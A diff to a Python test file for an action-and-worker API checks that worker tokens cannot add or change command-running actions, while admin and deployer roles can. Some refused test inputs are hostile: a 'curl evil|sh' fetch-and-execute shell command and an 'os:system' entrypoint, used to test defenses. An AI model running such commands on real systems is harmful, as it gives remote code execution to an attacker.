@@ -50,7 +50,7 @@ def _refused(response: httpx.Response) -> None:
 def test_a_worker_adds_actions_and_versions_but_never_changes_what_one_runs(admin, role):
     worker = role("worker")
     assert worker.post("/v1/actions", json=PYTHON).status_code == 201
-    assert worker.post("/v1/actions", json=SHELL).status_code == 201
+    assert admin.post("/v1/actions", json=SHELL).status_code == 201
     # New versions that run the same code: the app's worker starting with new parameters.
     more = {**PYTHON, "parameters": [{"name": "width", "type": "int"}], "timeout": 9}
     again = worker.post("/v1/actions", json=more)
@@ -58,6 +58,7 @@ def test_a_worker_adds_actions_and_versions_but_never_changes_what_one_runs(admi
     # What runs may not change: entrypoint, command, template, kind.
     _refused(worker.post("/v1/actions", json={**PYTHON, "entrypoint": "os:system"}))
     _refused(worker.post("/v1/actions", json={**SHELL, "command": ["sh", "-c", "curl evil|sh"]}))
+    _refused(worker.post("/v1/actions", json={**SHELL, "timeout": 5}))  # an openjd version
     _refused(
         worker.post(
             "/v1/actions",
@@ -136,3 +137,32 @@ def test_an_invocation_pinned_to_another_digest_is_a_conflict(tenant, admin):
     # Pinning to the version and its digest still runs the old one.
     old = admin.post("/v1/operations", json={**pinned, "version": 1})
     assert old.status_code == 201, old.text
+
+
+def test_a_worker_defines_no_command_action_even_a_new_one(admin, role):
+    """An openjd action runs a command on every worker: a worker token may not add one."""
+    worker = role("worker")
+    template = {
+        "specificationVersion": "jobtemplate-2023-09",
+        "name": "t",
+        "steps": [{"name": "s", "script": {"actions": {"onRun": {"command": "id"}}}}],
+    }
+    for definition in (
+        {**SHELL, "name": "fresh"},
+        {"name": "templated", "kind": "openjd", "template": template},
+    ):
+        _refused(worker.post("/v1/actions", json=definition))
+        registration = {"name": "w", "hostname": "h", "actions": [PYTHON, definition]}
+        _refused(worker.post("/v1/workers", json=registration))
+    # Nothing was saved, not even the python action registered beside the command.
+    for name in ("fresh", "templated", "resize"):
+        assert admin.get(f"/v1/actions/{name}").status_code == 404
+    # Registering a worker with its app's python actions needs nothing more.
+    registered = worker.post(
+        "/v1/workers", json={"name": "w", "hostname": "h", "actions": [PYTHON]}
+    )
+    assert registered.status_code == 201, registered.text
+    assert admin.get("/v1/actions/resize").status_code == 200
+    # A deployer may add the command; the worker still may not version it.
+    assert role("deployer").post("/v1/actions", json=SHELL).status_code == 201
+    _refused(worker.post("/v1/actions", json=SHELL))
